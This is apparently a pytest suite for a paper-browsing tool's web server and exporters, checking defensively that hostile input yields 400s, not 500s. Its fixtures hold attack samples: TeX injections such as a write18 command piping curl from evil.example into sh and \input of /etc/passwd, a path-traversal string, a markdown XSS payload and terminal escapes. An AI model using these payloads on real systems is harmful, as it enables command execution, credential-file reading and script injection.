"""The server and export side of hostile input: every handler's ids, numbers and strings
(400, never a 500), HEAD wherever GET is, one Origin / Sec-Fetch-Site / Host value or a
refusal, an absolute-URI request line's host checked, `--read-only` writing nothing, a full
disk, `serve --workers` bounded and tied to the server; exports that stay valid JSON and
BibTeX that cannot run a TeX command.

In-process checks use the app through TestClient; the `live_*` tests start a real
`paperatlas serve` (the process, its socket or its workers are the point)."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from atlas_fixture import web_atlas_db, web_client  # noqa: F401 - the db and client fixtures
from paperatlas.api import Atlas, web_reads
from paperatlas.web.app import create_app

PAPERATLAS = str(Path(sys.executable).with_name("paperatlas"))
SAME = {"origin": "http://127.0.0.1", "content-type": "application/json"}


def _routes(client) -> list[APIRoute]:
    return [r for r in client.app.routes if isinstance(r, APIRoute)]


def _get_routes(client) -> list[APIRoute]:
    return [r for r in _routes(client) if "GET" in r.methods]


def _encode(value: str) -> str:
    # lone surrogates go out as the bytes Python would write for them (invalid UTF-8)
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


HOSTILE = [
    "9" * 20_000,
    "-" + "9" * 5_000,
    "1e999",
    "-1e999",
    "nan",
    "inf",
    "-1",
    "0",
    "1.5",
    "\ud800",
    "\udfff\ud800",
    "f" + "9" * 400,
    "\u202e\u0007\u001b[2J",
    "0x10",
    "",
    " ",
    "1,2,3,4",
    "nan,nan,nan,nan",
    "0,0,1e308,1e308",
    "-1e308,-1e308,1e308,1e308",
    "../../etc/passwd",
]
hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40))


# -- every handler: ids, numbers and strings from the request -------------------------------


def _path_for(route: APIRoute, value: str) -> str:
    path = route.path_format
    for param in route.dependant.path_params:
        path = path.replace("{" + param.name + "}", _encode(value) or "x")
    return path


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=hostile_text, other=hostile_text, which=st.integers(0, 1000))
def test_no_get_handler_answers_500_to_any_parameter(client, value, other, which):
    routes = _get_routes(client)
    route = routes[which % len(routes)]
    params = [p.name for p in route.dependant.query_params] + ["lang"]
    url, sep = _path_for(route, value), "?"
    for i, name in enumerate(params):
        part = f"{sep}{name}={_encode(value if i % 2 else other)}"
        if len(url) + len(part) > 60_000:  # the client's own limit on a URL is 64 KiB
            break
        url, sep = url + part, "&"
    r = client.get(url)
    assert r.status_code < 500, (url[:200], r.text[:300])
    assert "Traceback" not in r.text


@pytest.mark.slow  # fuzzes every handler or route with many values
def test_every_parameter_of_every_handler_takes_huge_and_broken_values(client):
    for route in _get_routes(client):
        for value in HOSTILE:
            urls = [_path_for(route, value)] if route.dependant.path_params else []
            names = [p.name for p in route.dependant.query_params] + ["lang"]  # lang: every page reads it
            urls += [f"{_path_for(route, '1')}?{name}={_encode(value)}" for name in names]
            for url in urls:
                r = client.get(url)
                assert r.status_code < 500, (url[:200], r.text[:300])


@pytest.mark.parametrize(
    "body",
    [
        '{"id": "\\ud800", "liked": true}',
        '{"id": "robots-01\\udfff", "liked": false}',
        '{"id": "robots-01", "liked": true, "n": 1' + "0" * 50_000 + "}",
        '{"id": ' + "1" * 50_000 + ', "liked": true}',
    ],
)
def test_a_like_with_a_bad_id_or_number_is_a_400(client, body):
    r = client.post("/api/marks", content=body.encode("utf-8", "surrogatepass"), headers=SAME)
    assert r.status_code == 400, r.text[:200]
    assert r.json()["error"].startswith("send JSON")


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["\ud800", "robots-01\udfff", "\udc80\x00"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    body=st.one_of(
        st.fixed_dictionaries({"id": json_values, "liked": json_values}),
        st.fixed_dictionaries({"id": st.text(max_size=50), "liked": st.booleans()}),
        json_values,
    )
)
def test_no_like_body_answers_500(client, body):
    raw = json.dumps(body).encode("utf-8", "surrogatepass")
    r = client.post("/api/marks", content=raw, headers=SAME)
    assert r.status_code in (200, 400, 404), r.text[:300]
    if r.status_code == 200:  # only a real paper's id is stored
        client.post("/api/marks", json={"id": r.json()["id"], "liked": False}, headers=SAME)


# a body each POST route takes, each of its values then swapped for every one of POST_VALUES
POST_BODIES = {
    "/api/marks": {"id": "robots-01", "liked": True},
    "/api/state": {"id": "robots-01", "state": "read"},
    "/api/note": {"id": "robots-01", "note": "a note"},
    "/api/tags": {"id": "robots-01", "add": ["t"], "remove": []},
    "/api/not-interested": {"id": "robots-01", "collection": "likes"},
    "/api/follows": {"kind": "author", "name": "Ada Lovelace"},
    "/api/follows/remove": {"id": 1},
    "/api/seen": {"list": "robots"},
}
POST_VALUES = [
    2**63,
    -(2**63) - 1,
    2**64,
    10**29,
    -1,
    0,
    1.5,
    1e308,
    None,
    True,
    "",
    " ",
    "\ud800",
    "\x00",
    "\x1b]0;owned\x07",
    "a\nb",
    "\u202e",
    "x" * 5_000,
    [],
    {},
    [[[[[]]]]],
    {"a": {"b": {"c": {}}}},
    ["\ud800"],
]


def test_every_post_route_answers_bad_values_with_4xx(db, tmp_path):
    """Each POST route's body with each value swapped for numbers past SQLite's 64-bit integers,
    lone surrogates, NUL, escapes, wrong types and nesting: a 4xx or a 200, never a 500."""
    shutil.copy(db, tmp_path / "atlas.db")
    with TestClient(create_app(tmp_path / "atlas.db"), base_url="http://127.0.0.1") as c:
        assert {r.path for r in _routes(c) if "POST" in r.methods} == set(POST_BODIES)
        for path, body in POST_BODIES.items():
            for key in body:
                for value in POST_VALUES:
                    raw = json.dumps({**body, key: value}).encode("utf-8", "surrogatepass")
                    r = c.post(path, content=raw, headers=SAME)
                    assert r.status_code < 500, (path, key, repr(value)[:40], r.text[:200])


@pytest.mark.parametrize(
    "name", ["c\x1b]0;owned\x07", "c\u202egnp.exe", "c\x9b31m", "a\nb", "a\u2028b", "a\x7f"]
)
def test_names_a_person_gives_are_refused_with_controls_in_them(client, name):
    """A collection, a followed author or a saved search is stored and then shown on terminals,
    pages and in Atom feeds (where a control character is not even XML): one with a control,
    a bidi control or a line break in it is a 400 saying which, and nothing is stored."""
    follows = len(client.get("/api/follows").json()["follows"])
    bodies = {"/api/not-interested": {"id": "robots-01", "collection": name}}
    if "\n" not in name and "\u2028" not in name:  # an author's or a search's are its spaces
        bodies["/api/follows"] = {"kind": "author", "name": f"Ada {name}"}
        bodies["/api/follows "] = {"kind": "search", "q": f"robot {name}", "filters": ""}
    for path, body in bodies.items():
        r = client.post(path.strip(), json=body, headers=SAME)
        assert r.status_code == 400 and "control character" in r.json()["error"], (path, r.text[:200])
    assert len(client.get("/api/follows").json()["follows"]) == follows


# -- HEAD wherever GET is --------------------------------------------------------------------


def test_head_answers_every_get_route_with_no_body(client):
    urls = ["/", "/map", "/papers", "/papers/robots-02", "/search?q=robot", "/topics/0", "/healthz"]
    urls += ["/api/marks", "/api/map", "/api/search?q=robot", "/static/app.js", "/nothing-here"]
    for url in urls:
        got, head = client.get(url), client.head(url)
        assert head.status_code == got.status_code, url
        assert head.content == b""
        assert head.headers["content-type"] == got.headers["content-type"]
    for route in _get_routes(client):
        assert "HEAD" in route.methods, route.path


# -- one Origin, one Sec-Fetch-Site, one Host ------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        [(b"origin", b"http://evil.example"), (b"origin", b"http://127.0.0.1")],
        [(b"origin", b"http://127.0.0.1"), (b"origin", b"http://evil.example")],
        [(b"sec-fetch-site", b"cross-site"), (b"sec-fetch-site", b"same-origin")],
        [(b"sec-fetch-site", b"same-origin"), (b"sec-fetch-site", b"cross-site")],
    ],
)
@pytest.mark.parametrize("method", ["POST", "GET"])
def test_a_repeated_origin_or_fetch_site_is_refused(headers, method):
    import asyncio

    from paperatlas.web.guard import RequestGuard

    reached, sent = [], []

    async def app(scope, receive, send):
        reached.append(scope["path"])

    async def receive():
        return {"type": "http.request", "body": b'{"id": "robots-01", "liked": true}', "more_body": False}

    async def send(message):
        sent.append(message)

    scope = {  # as the server hands it over: repeated headers stay repeated (HTTP clients join them)
        "type": "http",
        "method": method,
        "path": "/api/marks",
        "scheme": "http",
        "query_string": b"",
        "headers": [(b"host", b"127.0.0.1"), (b"content-type", b"application/json"), *headers],
    }
    asyncio.run(RequestGuard(app)(scope, receive, send))
    assert reached == [] and sent[0]["status"] == 400


# -- exports: valid JSON, inert BibTeX ---------------------------------------------------------

TEX_ATTACKS = [
    r"\input{/etc/passwd}",
    r"\include{secrets}",
    r"\openin5=/etc/shadow \read5 to\x",
    r"\immediate\write18{curl evil.example | sh}",
    r"\def\title{owned}\let\x\relax",
    r"\catcode`\^=7 ^^5cinput{/etc/passwd}",
    r"\csname input\endcsname{/etc/passwd}",
    r"\begin{filecontents}{x.tex}",
    r"\textbf{bold \openout3=x.tex}",
    r"math $\input{/etc/passwd}$ and $^^5cwrite18{x}$ and $\alpha$",
    r"\\input{/etc/passwd}",
]
DANGEROUS = ("input", "include", "openin", "openout", "read", "write", "immediate", "def", "let")
DANGEROUS += ("catcode", "csname", "endcsname", "begin", "relax", "write18")


def _add_records(tmp_path: Path, records: list[dict]):
    from paperatlas import Atlas

    src = tmp_path / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    atlas = Atlas(tmp_path / "hostile.db")
    atlas.add([src], list_name="hostile", enrich=False)
    return atlas


def _abstract(n: int) -> str:
    return f"We study hostile paper number {n} and report what it does to every exporter in a long sentence."


def test_bibtex_export_runs_no_tex_command_from_any_field(tmp_path):
    import bibtexparser

    from paperatlas import sources
    from paperatlas.report.export import export_papers

    records = [
        {
            "id": f"tex{n}",
            "title": attack,
            "abstract": _abstract(n) + " " + attack,
            "authors": [attack, "Ada Lovelace"],
            "keywords": [attack],
            "venue": "Proceedings of ICLR " + attack,
            "decision": "Accept " + attack,
            "area": attack,
        }
        for n, attack in enumerate(TEX_ATTACKS)
    ]
    atlas = _add_records(tmp_path, records)
    out = tmp_path / "out.bib"
    export_papers(atlas.store, "bibtex", out)
    text = out.read_text(encoding="utf-8")
    for name in DANGEROUS:
        assert not re.search(r"\\" + name + r"(?![A-Za-z])", text), name
    assert "^^" not in text
    assert r"$\alpha$" in text  # math that only typesets is kept
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == [] and len(library.entries) == len(TEX_ATTACKS)
    back = {p.id: p for p in sources.read(out)}
    for n, attack in enumerate(TEX_ATTACKS):  # what was typed reads back as typed
        if "\\textbf" not in attack and "$" not in attack:  # (the reader drops formatting)
            assert back[f"tex{n}"].title == attack, n


NON_FINITE = (
    '{"id": "inf1", "title": "Infinite rating", "abstract": "%s", "rating": 1e999, '
    '"ratings": [1e999, -1e999, 5], "score": -1e999, "nested": {"x": [NaN, Infinity]}}\n'
)


def _strict_json(text: str):
    def refuse(name):
        raise AssertionError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_jsonl_export_and_json_outputs_never_write_infinity_or_nan(tmp_path, cli):
    from paperatlas.report.export import export_papers

    src = tmp_path / "inf.jsonl"
    src.write_text(NON_FINITE % _abstract(1), encoding="utf-8")
    db = tmp_path / "inf.db"
    assert cli("add", str(src), "--db", str(db), "--no-enrich", use_db=False)[0] == 0
    code, out, _ = cli("export", "--db", str(db), use_db=False)
    assert code == 0
    [record] = [_strict_json(line) for line in out.splitlines()]
    assert record["rating"] is None
    assert record["extra"]["score"] is None and record["extra"]["nested"] == {"x": [None, None]}
    code, out, _ = cli("search", "infinite rating", "--json", "--db", str(db), use_db=False)
    assert code == 0 and _strict_json(out)
    # an atlas written before: the numbers are in the store already
    with sqlite3.connect(db) as conn:
        conn.execute('UPDATE papers SET rating = 9e999, extra = \'{"score": Infinity, "n": NaN}\'')
    from paperatlas import Atlas

    buffer = io.StringIO()
    export_papers(Atlas(db).store, "jsonl", buffer)
    [record] = [_strict_json(line) for line in buffer.getvalue().splitlines()]
    assert record["rating"] is None and record["extra"] == {"score": None, "n": None}
    buffer = io.StringIO()
    export_papers(Atlas(db).store, "csv", buffer)
    [row] = csv.DictReader(io.StringIO(buffer.getvalue()))
    assert row["rating"] == ""
    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
        r = c.get("/api/search", params={"q": "infinite rating"})
        assert r.status_code == 200 and _strict_json(r.text)["hits"]


# -- --read-only writes nothing anywhere ----------------------------------------------------


def _listing(folder: Path) -> dict[str, tuple[int, int]]:
    return {p.name: (p.stat().st_size, p.stat().st_mtime_ns) for p in sorted(folder.iterdir())}


def _wait_warm(get, seconds: float = 60) -> None:
    deadline = time.time() + seconds
    while not json.loads(get("/healthz"))["warm"]:
        assert time.time() < deadline, "the server never finished its preload"
        time.sleep(0.1)


def test_read_only_app_writes_no_file_beside_the_atlas(db, tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    shutil.copy(db, folder / "atlas.db")
    before = _listing(folder)
    with TestClient(create_app(folder / "atlas.db", read_only=True), base_url="http://127.0.0.1") as c:
        _wait_warm(lambda url: c.get(url).text)
        for url in ("/", "/map", "/api/map", "/papers", "/papers/robots-02", "/topics/0"):
            assert c.get(url).status_code == 200, url
        for q in ("robot", "graph neural networks", "机器人", "RoboNet", '"robot arm"'):
            assert c.get("/search", params={"q": q}).status_code == 200
            assert c.get("/api/search", params={"q": q}).status_code == 200
    assert _listing(folder) == before


def test_read_only_app_writes_nothing_after_any_page_or_download(db, tmp_path):
    """Every page, feed and download of an atlas that has likes, tags and follows (recommend
    fits TF-IDF vectors and saved them beside the atlas): no file beside it made or touched."""
    folder = tmp_path / "ro"
    folder.mkdir()
    shutil.copy(db, folder / "atlas.db")
    with Atlas(folder / "atlas.db") as atlas:
        atlas.like(["robots-01", "robots-02"])
        atlas.tag(["robots-01"], ["mine"])
        atlas.follow_author("Ada Lovelace")
    for side in folder.iterdir():  # a writer's WAL files are its own (mode=ro reads through them)
        if side.name.endswith(("-wal", "-shm")):
            side.unlink()
    before = _listing(folder)
    urls = [
        "/",
        "/map",
        "/papers?sort=title",
        "/papers/robots-01",
        "/search?q=robot",
        "/topics/0?level=1",
        "/likes",
        "/collections/likes",
        "/tags/mine",
        "/follows",
        "/new",
        "/feed.atom",
        "/feed/1.atom",
        "/recommend?collection=likes",
        "/compare",
        "/api/map/match?q=robot",
        "/api/search?q=机器人",
        "/download/digest?format=html&lang=zh&collection=likes",
        "/download/schedule?collection=likes",
    ] + [
        f"/download/export?format={f}&collection=likes" for f in ("jsonl", "csv", "bibtex", "ris", "markdown")
    ]
    with TestClient(create_app(folder / "atlas.db", read_only=True), base_url="http://127.0.0.1") as c:
        _wait_warm(lambda url: c.get(url).text)
        for url in urls:
            assert c.get(url).status_code < 500, url
            assert _listing(folder) == before, url


# -- a full disk -------------------------------------------------------------------------------


def _full_disk(*args, **kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_postings_file_space_is_reserved_before_any_mapped_write(db, tmp_path, monkeypatch, caplog):
    import numpy as np

    from paperatlas import Atlas
    from paperatlas.search import postings_file

    copy = tmp_path / "full.db"
    shutil.copy(db, copy)
    mapped_writes: list[str] = []
    real_memmap = np.memmap

    class memmap(real_memmap):
        def __new__(cls, filename, *args, **kwargs):
            if kwargs.get("mode", "r") != "r":
                mapped_writes.append(str(filename))
            return real_memmap.__new__(cls, filename, *args, **kwargs)

    monkeypatch.setattr(np, "memmap", memmap)
    monkeypatch.setattr(os, "posix_fallocate", _full_disk)
    atlas = Atlas(copy)
    before = [h.id for h in atlas.search("robot arm grasping", k=10).hits]
    with caplog.at_level("WARNING", logger="paperatlas.search"):
        web_reads.preload(atlas)
    assert mapped_writes == []  # the reservation failed: nothing was written through a map
    assert not postings_file.file_path(copy).exists()
    assert list(tmp_path.glob("*.tmp")) == []
    [line] = [
        r.getMessage() for r in caplog.records if "postings" in r.getMessage() or ".bm25" in r.getMessage()
    ]
    assert "No space left on device" in line and "\n" not in line
    assert [h.id for h in atlas.search("robot arm grasping", k=10).hits] == before
    monkeypatch.undo()
    monkeypatch.setattr(np, "memmap", memmap)
    assert postings_file.build(atlas.store, *_index_args(atlas.store)) is not None
    assert mapped_writes  # with room on the disk the file is written through its map


def _index_args(store):
    from paperatlas.search.keyword import _index

    index = _index(store)
    return index.doc_len, index.n_rows, index.version


def _run_with_file_limit(limit: int, *args: str) -> subprocess.CompletedProcess:
    """`paperatlas ARGS` unable to write past `limit` bytes of any file (as a full disk:
    writes fail with EFBIG; SIGXFSZ ignored, so the error reaches the program)."""
    import resource
    import signal

    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [PAPERATLAS, *args], preexec_fn=limited, capture_output=True, text=True, timeout=300
    )


def _papers(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        return conn.execute("SELECT id, title, abstract FROM papers ORDER BY id").fetchall()


@pytest.mark.slow  # starts a child process and kills or waits for it
def test_a_full_disk_is_one_line_and_exit_2_with_the_atlas_intact(db, tmp_path):
    copy = tmp_path / "full.db"
    shutil.copy(db, copy)
    before = _papers(copy)
    more = tmp_path / "more.jsonl"
    more.write_text(
        "".join(
            json.dumps({"id": f"more{n}", "title": f"More {n}", "abstract": _abstract(n) * 12}) + "\n"
            for n in range(400)
        ),
        encoding="utf-8",
    )
    r = _run_with_file_limit(200_000, "add", str(more), "--db", str(copy), "--no-enrich")
    assert r.returncode == 2, r.stderr[-500:]
    assert r.stderr.count("\n") == 1 and "disk full" in r.stderr and str(copy) in r.stderr
    assert _papers(copy) == before
    out = tmp_path / "out.jsonl"
    r = _run_with_file_limit(60_000, "export", "--db", str(copy), "-o", str(out))
    assert r.returncode == 2, r.stderr[-500:]
    assert r.stderr.count("\n") == 1 and str(out) in r.stderr and "disk full" in r.stderr
    assert not out.exists()  # no half-written export
    assert _papers(copy) == before


# -- serve's workers: bounded, and tied to the server from their start ------------------------

TIED_WHEN_LOADING = """
import ctypes, sys
libc, seen = ctypes.CDLL(None), []

class Watch:  # notes the parent-death signal as the first heavy module starts loading
    def find_spec(self, name, path=None, target=None):
        if name == "paperatlas.api" and not seen:
            sig = ctypes.c_int(-1)
            libc.prctl(2, ctypes.byref(sig), 0, 0, 0)  # PR_GET_PDEATHSIG
            seen.append(sig.value)

sys.meta_path.insert(0, Watch())
import paperatlas
print(seen[0])
"""


@pytest.mark.slow  # starts a server process
def test_a_serve_worker_is_tied_to_its_server_before_its_imports():
    import signal

    env = {**os.environ, "PAPERATLAS_SERVE_PARENT": str(os.getpid())}
    r = subprocess.run([sys.executable, "-c", TIED_WHEN_LOADING], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr[-500:]
    assert int(r.stdout) == signal.SIGKILL
    # a worker whose server is gone already (it is no longer the parent) ends at once
    env["PAPERATLAS_SERVE_PARENT"] = str(os.getpid() + 1 if os.getppid() != os.getpid() + 1 else 1)
    r = subprocess.run([sys.executable, "-c", TIED_WHEN_LOADING], env=env, capture_output=True, text=True)
    assert r.returncode == 1 and r.stdout == "", (r.stdout, r.stderr[-300:])
    # any other process: not tied
    env.pop("PAPERATLAS_SERVE_PARENT")
    r = subprocess.run([sys.executable, "-c", TIED_WHEN_LOADING], env=env, capture_output=True, text=True)
    assert int(r.stdout) == 0


@pytest.mark.slow  # starts a server process
def test_serve_workers_are_bounded_by_cores_and_memory(db, monkeypatch):
    from paperatlas.web import server

    limit, _ = server.worker_limit()
    assert 1 <= limit <= 2 * server.usable_cores()
    monkeypatch.setattr(server, "available_memory", lambda: 3 * server.WORKER_BYTES + 1)
    assert server.worker_limit()[0] == min(3, 2 * server.usable_cores())
    r = subprocess.run(
        # (--host 0.0.0.0 without --allow-host: code without the bound refuses before any worker starts)
        [PAPERATLAS, "serve", "--db", str(db), "--host", "0.0.0.0", "--workers", "100000"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 2 and r.stderr.count("\n") == 1, r.stderr
    assert "--workers 100000: this machine runs at most" in r.stderr and "core" in r.stderr


# -- a live server: what only its HTTP parser sees ----------------------------------------------


def _raw(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(request)
        chunks = []
        while chunk := s.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.mark.slow  # starts `paperatlas serve`
def test_live_server_checks_an_absolute_uri_host_and_answers_head(db):
    from test_web_security import start_serve, stop

    proc, port = start_serve(db, workers=1)
    try:
        for target in (
            b"http://evil.example/",
            b"http://evil.example:%d/papers" % port,
            b"http://x@127.0.0.1/",
        ):
            answer = _raw(
                port, b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
            )
            assert answer.startswith(b"HTTP/1.1 400"), (target, answer[:200])
        own = b"http://127.0.0.1:%d/papers" % port
        answer = _raw(port, b"GET " + own + b" HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
        answer = _raw(port, b"HEAD / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200") and b"text/html" in head and body == b""
        like = b'{"id": "robots-01", "liked": true}'
        answer = _raw(
            port,
            b"POST /api/marks HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b"Origin: http://evil.example\r\nOrigin: http://127.0.0.1:%d\r\n"
            % port
            + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(like)
            + like,
        )
        assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
    finally:
        stop(proc)


def test_a_vector_index_that_cannot_be_saved_is_searched_from_memory(tmp_path, monkeypatch, caplog):
    import numpy as np

    from paperatlas.embed import index as I
    from paperatlas.store import Store

    store = Store(tmp_path / "atlas.db")
    rng = np.random.default_rng(0)
    vectors = rng.standard_normal((120, 8)).astype(np.float32)
    ids = [f"p{i}" for i in range(120)]
    with store.transaction():
        for pid in ids:
            store.papers.insert({"id": pid, "abstract": f"abstract of {pid}"})
        store.vectors.put("toy", ids, vectors, ["h"] * len(ids))

    def full_disk(self, path, *args, **kwargs):  # what usearch raises when the write fails
        Path(path).write_bytes(b"half")
        raise RuntimeError("Failed to serialize into stream")

    monkeypatch.setattr(type(I.AnnIndex(8)._index), "save", full_disk)
    I.clear_cache()
    with caplog.at_level("WARNING", logger="paperatlas.embed"):
        ann = I.open_index(store, "toy", ann_threshold=100)
    assert ann.search(vectors[7], 1)[0][0] == "p7"
    [line] = [r.getMessage() for r in caplog.records]
    assert "cannot write the vector index" in line and "\n" not in line
    assert sorted(p.name for p in tmp_path.iterdir() if "tmp" in p.name) == []


@pytest.mark.slow  # starts `paperatlas serve`
def test_live_read_only_server_writes_no_file(db, tmp_path):
    from test_web_security import request, start_serve, stop

    folder = tmp_path / "ro"
    folder.mkdir()
    shutil.copy(db, folder / "atlas.db")
    before = _listing(folder)
    proc, port = start_serve(folder / "atlas.db", "--read-only", workers=2)
    try:
        _wait_warm(lambda url: request(port, "GET", url)[1])
        for url in ("/", "/papers/robots-02", "/api/map", "/search?q=robot", "/api/search?q=graph"):
            for _ in range(3):  # both workers, most likely
                assert request(port, "GET", url)[0] == 200, url
    finally:
        stop(proc)
    assert _listing(folder) == before


def test_markdown_export_keeps_a_hostile_id_inside_its_code_span(tmp_path):
    from markdown_it import MarkdownIt

    from paperatlas.report.export import export_papers

    hostile = "x` <img src=x onerror=alert(1)> [click](javascript:alert(1)) ``y"
    atlas = _add_records(tmp_path, [{"id": hostile, "title": "Hostile id", "abstract": _abstract(3)}])
    out = io.StringIO()
    export_papers(atlas.store, "markdown", out)
    html = MarkdownIt("commonmark").render(out.getvalue())
    assert "<img" not in html and "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', html))
    assert "<code>" + hostile.replace("<", "&lt;").replace(">", "&gt;") + "</code>" in html


@pytest.fixture(scope="module")
def plain_atlas(tmp_path_factory):
    """300 papers with `lsa` vectors, neither enriched nor mapped."""
    from paperatlas import Atlas

    folder = tmp_path_factory.mktemp("plain")
    src = folder / "papers.jsonl"
    topics = ("graph neural networks", "diffusion models", "robot grasping", "language model reasoning")
    src.write_text(
        "".join(
            json.dumps(
                {"id": f"p{n}", "title": f"Paper {n}", "abstract": f"{_abstract(n)} About {topics[n % 4]}."}
            )
            + "\n"
            for n in range(300)
        ),
        encoding="utf-8",
    )
    atlas = Atlas(folder / "atlas.db")
    atlas.add([src], list_name="plain", enrich=False)
    atlas.embed(model="lsa")
    atlas.close()
    return folder / "atlas.db"


@pytest.mark.slow  # runs enrich, embed and map as processes
@pytest.mark.parametrize("command", [["enrich"], ["embed", "--model", "static"], ["map", "--model", "lsa"]])
def test_a_full_disk_in_any_writing_command_is_one_line_and_resumes(plain_atlas, tmp_path, command):
    copy = tmp_path / "atlas.db"
    shutil.copy(plain_atlas, copy)
    before = _papers(copy)
    r = _run_with_file_limit(40_000, *command, "--db", str(copy))  # room for SQLite's index file only
    assert r.returncode == 2, r.stderr[-500:]
    assert r.stderr.count("\n") == 1 and "disk full" in r.stderr, r.stderr
    assert _papers(copy) == before
    r = subprocess.run([PAPERATLAS, *command, "--db", str(copy)], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-500:]
